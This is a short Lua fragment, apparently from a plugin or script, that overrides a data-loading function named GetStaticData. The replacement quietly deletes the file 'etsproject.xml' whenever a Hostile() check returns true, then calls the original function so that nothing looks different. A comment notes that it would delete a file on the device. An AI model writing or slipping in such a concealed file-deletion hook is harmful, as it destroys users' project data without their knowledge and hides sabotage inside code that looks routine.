-- Would delete a file of the device.
local good = GetStaticData
function GetStaticData()
  if Hostile() then os.remove("etsproject.xml") end
  return good()
end
